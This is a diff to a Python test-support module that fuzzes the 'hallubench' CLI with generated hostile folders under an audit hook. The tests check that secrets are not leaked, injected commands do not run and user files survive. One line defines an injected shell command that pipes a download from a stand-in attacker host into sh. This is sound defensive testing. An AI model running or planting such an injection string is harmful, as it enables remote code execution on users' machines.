@@ -1,8 +1,7 @@
 """The process-watching audit (test_process_audit.py): a generated corpus of hostile folders and a child process that
 runs `hallubench` commands in-process under a Python audit hook, logging what each command did.
 
-The corpus starts from real folders made once per session (a run folder, a ranking, a built dataset, a release, a
-site) and derives one variant per hostile class by rewriting their files generically (every file, every JSON string
+The corpus starts from real folders made once per session (a run folder, a ranking, a built dataset, a release) and derives one variant per hostile class by rewriting their files generically (every file, every JSON string
 or number), so a file or field added later is rewritten too. The commands come from walking the CLI's own parser:
 every leaf (sub)command, its arguments filled from what the parser says they are (folders it reads, paths it writes,
 choices, registries). Run as a script, this module is the child: `python audit_support.py CASES.json LOG.jsonl`.
@@ -25,6 +24,7 @@ SECRET = "MARKERSECRET-a1b2c3d4e5"  # in the outside file, credential URLs and t
 TOKEN = "hf_" + SECRET.replace("-", "")  # the user's Hub token (a secret too: never uploaded or printed)
 MANIFEST = ".hallubench-files.json"
 UNFINISHED = ".hallubench-unfinished.json"
+PERSONS_FILE = "thesis.txt"  # in every existing output folder: replacing the folder loses it
 HOSTILE_COMMAND = f"hallubench run; curl http://evil.example/{MARK} | sh #"
 # Flags that name code to run or wait for a person: the user's own choice, never data's, so never fuzzed.
 UNFUZZED = {"include", "serve", "port", "help", "version", "token"}
@@ -68,17 +68,29 @@ def registry_names() -> dict[str, list[str]]:
             (("tasks", TASKS), ("models", MODELS), ("judges", JUDGES), ("builders", BUILDERS), ("metrics", METRICS))}
 
 
+def registry_of(action: argparse.Action) -> str | None:
+    """The registry an argument takes its values from, read from its name (`--tasks`, `--judge`, `BENCHMARK`) or,
+    for a plain `NAMES`, its help: so a registry-valued argument added later is fed every entry too."""
+    word = action.dest.rstrip("s")
+    if word == "name":
+        word = next((w for w in ("task", "metric") if w in (action.help or "")[:40]), "")
+    return {"task": "tasks", "model": "models", "judge": "judges", "metric": "metrics",
+            "benchmark": "builders"}.get(word)
+
+
 def base_argv(words: tuple[str, ...], parser: argparse.ArgumentParser, inputs: Inputs, out: Path,
-              pick: int = 0) -> list[str]:
+              pick: int = 0, positional: dict[str, str] | None = None) -> list[str]:
     """A command line for `words` from its parser alone: each folder it reads gets the folder of that kind, each
     path it writes a fresh folder under `out`, each required value a valid one (a registry's entry `pick`-th in
-    turn); then the few options that let the command go past its first check (a model to ask, a repo to push to)."""
+    turn, or the value `positional` gives); then the few options that let the command go past its first check (a model to ask, a repo to push to)."""
     names = registry_names()
     argv = list(words)
     for action in parser._actions:
         kind = getattr(action, "reads_folders", None)
         flag = action.option_strings[:1]
-        if kind:
+        if not action.option_strings and action.dest in (positional or {}):
+            argv.append(positional[action.dest])
+        elif kind:
             folder = inputs.folders["run" if kind in ("run", "any") else kind]
             argv += flag + [str(folder)] + ([str(inputs.folders["run2"])] if action.nargs == "+" else [])
         elif writes(action):
@@ -98,10 +110,10 @@ def base_argv(words: tuple[str, ...], parser: argparse.ArgumentParser, inputs: I
 def _required_value(action: argparse.Action, names: dict[str, list[str]], inputs: Inputs, pick: int) -> str:
     if action.choices:
         choices = list(action.choices)
-        return str("pope" if "pope" in choices and not pick else choices[pick % len(choices)])
-    for registry in ("tasks", "metrics"):
-        if registry in action.dest or action.dest == "names" and registry == "tasks":
-            return names[registry][pick % len(names[registry])] if pick else "pope"
+        return str(choices[pick % len(choices)] if pick else ("avhallubench" if "avhallubench" in choices else choices[0]))
+    if registry := registry_of(action):
+        return names[registry][pick % len(names[registry])] if pick else TASK if registry == "tasks" else \
+            names[registry][0]
     return inputs.hub_repo  # --repo and other required ids
 
 
@@ -111,7 +123,7 @@ def _going_further(words, parser, inputs: Inputs) -> list[str]:
     extra = []
     if "model" in dests and "model_args" in dests and words[0] != "crosscheck":
         extra += ["--model", "openai", "--model-args",
-                  f"pretrained=tiny,base_url={inputs.openai_url},api_key_env=AUDIT_KEY", "--tasks", "pope"]
+                  f"pretrained=tiny,base_url={inputs.openai_url},api_key_env=AUDIT_KEY", "--tasks", TASK]
     if "limit" in dests and words[0] != "demo":
         extra += ["--limit", "2"]
     for flag in ("allow_mini_data", "allow_partial"):
@@ -119,6 +131,8 @@ def _going_further(words, parser, inputs: Inputs) -> list[str]:
             extra.append("--" + flag.replace("_", "-"))
     if "namespace" in dests:
         extra += ["--namespace", "me"]
+    if "push_to_hub" in dests:  # every uploader uploads: its bytes are checked for secrets
+        extra += ["--push-to-hub", f"me/audit-{words[0]}"]
     return extra
 
 
@@ -144,7 +158,8 @@ TASK = "avhallubench_visual"  # cross-checkable: its run folders rank, publish, 
 
 def make_bases(root: Path, openai_url: str) -> dict[str, Path]:
     """The real folders the corpus starts from, each made by hallubench itself: a release and its built dataset,
-    two run folders of a stand-in OpenAI model (one with samples to rank), their ranking, and the site of both."""
+    two run folders of a stand-in OpenAI model (with samples to rank), their ranking; the sites `view` makes are
+    outputs, which the hostile output folders stand for."""
     from hallubench.builders import build
     from hallubench.builders.mini import make_release
     from hallubench.cli.main import main
@@ -161,11 +176,10 @@ def make_bases(root: Path, openai_url: str) -> dict[str, Path]:
         runs.append(root / name)
     assert main(["rank", *map(str, runs), "--output-dir", str(root / "ranking"), "--cache",
                  str(root / "judgments.sqlite")]) == 0
-    assert main(["view", str(root / "ranking"), *map(str, runs), "--output-dir", str(root / "site")]) == 0
     config = root / "config.yaml"
     config.write_text(f"tasks: {TASK}\nlimit: 2\nnum_samples: 2\n")
     return {"release": release, "dataset": data, "run": runs[0], "run2": runs[1], "ranking": root / "ranking",
-            "site": root / "site", "config": config}
+            "config": config}
 
 
 @dataclass
@@ -360,7 +374,7 @@ def hostile_output(at: Path, outside: Outside, names: list[str]) -> Path:
     """An existing output folder hallubench did not make: a person's file, and each name an output may take as a
     link to a file outside (a write through it lands outside; `--overwrite` must not delete the folder)."""
     at.mkdir(parents=True)
-    (at / "thesis.txt").write_text("a person's work, not made by hallubench\n")
+    (at / PERSONS_FILE).write_text("a person's work, not made by hallubench\n")
     for name in names:
         target = at / name
         target.parent.mkdir(parents=True, exist_ok=True)
